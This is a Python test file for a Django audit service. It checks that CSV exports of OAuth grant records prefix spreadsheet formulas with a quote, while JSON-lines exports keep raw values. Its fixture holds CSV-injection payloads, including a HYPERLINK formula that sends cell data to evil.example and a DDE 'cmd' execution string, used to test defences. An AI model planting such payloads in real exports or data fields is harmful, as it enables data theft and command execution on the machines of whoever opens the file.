"""Auditor CSV exports never carry a spreadsheet formula; JSON-lines exports keep the exact values. Over real HTTP."""

import csv
import io
import json
import re

import pytest
import requests
from django.db import transaction

from audit.exports import csv_cell
from audit.log import record_grant_event
from tests.factories import PASSWORD, AuditorFactory, GrantFactory, OAuthClientFactory, UserFactory

# A vendor chooses its organisation and client names: each starts with a character OWASP lists.
HOSTILE = {
    "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"click\")": "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0": "@SUM(A1:A9)",
    "\t=1+1": "\r=1+1",
}


@pytest.fixture
def hostile_grants():
    person = UserFactory()
    grants = []
    for vendor_name, client_name in HOSTILE.items():
        grant = GrantFactory(person=person, client=OAuthClientFactory(vendor__name=vendor_name, name=client_name))
        with transaction.atomic():
            record_grant_event(grant, "created", actor=person)
        grants.append(grant)
    return grants


@pytest.fixture
def auditor_session(live_server):
    auditor = AuditorFactory()
    session = requests.Session()
    url = f"{live_server.url}/accounts/login/"
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', session.get(url, timeout=10).text).group(1)
    login = session.post(url, data={"username": auditor.username, "password": PASSWORD, "csrfmiddlewaretoken": token},
                         headers={"Referer": url}, timeout=10, allow_redirects=False)
    assert login.status_code == 302
    return session


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("path", ["/audit/grants/", "/audit/events/"])
def test_csv_exports_neutralise_every_cell_a_spreadsheet_would_run(live_server, auditor_session, hostile_grants, path):
    response = auditor_session.get(f"{live_server.url}{path}", params={"export": "csv"}, timeout=10)

    rows = list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))
    assert response.status_code == 200 and response.headers["Content-Type"].startswith("text/csv")
    exported = {(row["vendor"], row["client_name"]) for row in rows}
    assert exported == {("'" + vendor, "'" + client) for vendor, client in HOSTILE.items()}
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("path", ["/audit/grants/", "/audit/events/"])
def test_json_lines_exports_keep_the_exact_values(live_server, auditor_session, hostile_grants, path):
    response = auditor_session.get(f"{live_server.url}{path}", params={"export": "jsonl"}, timeout=10)

    records = [json.loads(line) for line in response.text.splitlines()]
    assert response.status_code == 200
    assert {(record["vendor"], record["client_name"]) for record in records} == set(HOSTILE.items())


@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    (["-a", "b"], "'-a b"), ("Shop A", "Shop A"), ("a=1", "a=1"), (-5, -5), (None, ""), ("", ""),
])
def test_a_csv_cell_gets_a_leading_quote_only_where_a_formula_could_start(value, cell):
    assert csv_cell(value) == cell
